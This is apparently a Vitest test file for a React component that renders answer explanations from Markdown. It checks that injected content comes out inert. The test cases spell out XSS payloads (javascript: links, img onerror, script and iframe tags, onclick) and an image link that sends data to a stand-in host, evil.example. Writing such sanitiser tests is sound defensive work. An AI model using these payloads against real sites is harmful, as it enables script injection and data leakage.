import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { AnswerExplanation } from './answer-explanation.tsx';

const shown = (text: string) =>
  renderToStaticMarkup(createElement(AnswerExplanation, { prose: [{ text, struck: false }] }));

test.each([
  ['a link that runs a script', '[Open](javascript:alert(1)) the list'],
  ['a link to another site', 'See [the report](https://evil.example/?rows=42) or https://evil.example'],
  ['a picture that calls home', '![totals](https://evil.example/pixel.png?rows=42)'],
  ['a picture of data', '![x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['HTML', '<img src=x onerror=alert(1)><script>alert(1)</script><iframe srcdoc="x"></iframe>'],
  ['a reference', '[a][1]\n\n[1]: javascript:alert(1)'],
  ['a footnote', 'So it is.[^1]\n\n[^1]: [x](https://evil.example)'],
  ['a table and a heading', '# Big\n\n| a |\n|---|\n| <b onclick=x>1</b> |'],
])('%s in an explanation is text and nothing else', (_name, text) => {
  const tags = shown(text).match(/<[^>]+>/g) ?? [];
  const inert = /^<\/?(?:div|p|strong|em|ul|ol|li|br)(?: (?:class|id)="[^":]*")?\/?>$/;
  expect(tags.filter((tag) => !inert.test(tag))).toEqual([]);
});

test('an explanation keeps its emphasis and its lists', () => {
  expect(shown('**Berlin** leads:\n\n- one\n- two')).toMatch(/<strong>Berlin<\/strong>[\s\S]*<li>one<\/li>/);
});
